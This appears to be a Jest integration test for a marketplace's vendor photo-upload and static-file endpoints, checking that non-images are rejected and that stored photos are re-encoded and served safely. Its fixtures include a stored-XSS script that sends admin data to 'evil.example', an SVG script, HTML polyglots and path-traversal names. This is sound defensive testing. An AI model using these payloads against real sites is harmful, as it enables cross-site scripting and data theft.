// POST /vendor/uploads decides from the bytes: only real JPEG/PNG/WebP/AVIF photos are stored,
// re-encoded, under a server-made name; everything else is a 400 naming `files`, and nothing is
// stored. GET /static/:key serves files with nosniff, a fixed type and a sandboxing CSP.
import fs from "node:fs"
import path from "node:path"
import sharp from "sharp"
import { districtSuite } from "../../helpers/district"
import { attempt, vendorLogin } from "../../helpers/vendors"

jest.setTimeout(300_000)

// file-local's folder in the test app (medusa-config reads RBV_UPLOAD_DIR; helpers/setup.js makes one per file).
const uploadDir = process.env.RBV_UPLOAD_DIR!
const storedFiles = () => (fs.existsSync(uploadDir) ? fs.readdirSync(uploadDir).sort() : [])

const HTML = "<html><body><script>fetch('/admin/users/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>"
const realPng = (w = 64, h = 48) => sharp({ create: { width: w, height: h, channels: 3, background: "#b5532b" } }).png().toBuffer()

export default districtSuite({
  testSuite: ({ api, getContainer, district }) => {

    const upload = async (files: { name: string; type: string; bytes: Buffer }[]) => {
      const form = new FormData()
      for (const f of files) form.append("files", new Blob([f.bytes], { type: f.type }), f.name)
      return attempt(api.post("/vendor/uploads", form, await vendorLogin(api, "forno@sannazaro.demo")))
    }

    describe("POST /vendor/uploads refuses what is not a photo, and stores nothing", () => {
      it("HTML as PNG, SVG with script, GIF/HTML and PNG/HTML polyglots, oversize, empty, and a bad file next to a good one", async () => {
        const png = await realPng()
        const cases: [string, { name: string; type: string; bytes: Buffer }[], RegExp][] = [
          ["HTML declared as PNG", [{ name: "pane.png", type: "image/png", bytes: Buffer.from(HTML) }], /not a JPEG, PNG, WebP or AVIF/],
          [
            "SVG with a script",
            [{ name: "logo.svg", type: "image/svg+xml", bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>`) }],
            /not a JPEG, PNG, WebP or AVIF/,
          ],
          ["GIF header followed by HTML", [{ name: "gif.png", type: "image/png", bytes: Buffer.concat([Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00"), Buffer.from(HTML)]) }], /not a JPEG, PNG, WebP or AVIF/],
          ["PNG header followed by HTML", [{ name: "finta.png", type: "image/png", bytes: Buffer.concat([png.subarray(0, 33), Buffer.from(HTML)]) }], /damaged or unreadable/],
          ["over 5 MB", [{ name: "enorme.png", type: "image/png", bytes: Buffer.concat([png, Buffer.alloc(5 * 1024 * 1024)]) }], /at most 5 MB/],
          ["empty", [{ name: "vuota.png", type: "image/png", bytes: Buffer.alloc(0) }], /is empty/],
          ["a real photo with an HTML file beside it", [{ name: "ok.png", type: "image/png", bytes: png }, { name: "pagina.html", type: "image/jpeg", bytes: Buffer.from(HTML) }], /pagina\.html.*not a JPEG/],
        ]
        const before = storedFiles()
        for (const [what, files, message] of cases) {
          const res = await upload(files)
          expect({ what, status: res.status }).toEqual({ what, status: 400 })
          expect(res.data.message).toMatch(/^files: /)
          expect(res.data.message).toMatch(message)
        }
        expect(storedFiles()).toEqual(before)
      })
    })

    describe("a real photo", () => {
      it("is stored re-encoded under a server-made .png name and served back as image/png with nosniff", async () => {
        // A PNG that also carries HTML after its end, and a text chunk: what is stored is pixels only.
        const png = await sharp(await realPng(640, 480)).withMetadata({ exif: { IFD0: { Artist: "Via Seminario 7, Verona" } } }).png().toBuffer()
        const polyglot = Buffer.concat([png, Buffer.from(HTML)])
        const before = storedFiles()
        const res = await upload([{ name: "../../pane del giorno.html", type: "text/html", bytes: polyglot }])
        expect(res.status).toBe(201)
        const url = new URL(res.data.files[0].url)
        expect(url.pathname).toMatch(/^\/static\/\d+-forno-san-nazaro-[0-9a-f-]{36}\.png$/)
        const added = storedFiles().filter((f) => !before.includes(f))
        expect(added).toEqual([path.basename(url.pathname)])

        const served = await api.get(url.pathname, { responseType: "arraybuffer" })
        expect(served.status).toBe(200)
        expect(served.headers["content-type"]).toBe("image/png")
        expect(served.headers["x-content-type-options"]).toBe("nosniff")
        expect(served.headers["content-security-policy"]).toContain("sandbox")
        expect(served.headers["content-security-policy"]).toContain("default-src 'none'")
        const bytes = Buffer.from(served.data)
        expect(bytes.includes(Buffer.from("<script"))).toBe(false)
        expect(bytes.includes(Buffer.from("Seminario"))).toBe(false)
        const meta = await sharp(bytes).metadata()
        expect(meta).toMatchObject({ format: "png", width: 640, height: 480 })
        expect(meta.exif).toBeUndefined()
      })

      it("GET /static/:key: unknown, private and traversal keys are 404", async () => {
        for (const key of ["nope.png", "private-123-x.png", "..%2F..%2Fpackage.json", "%2e%2e"]) {
          expect((await attempt(api.get(`/static/${key}`))).status).toBe(404)
        }
      })
    })
  },
})
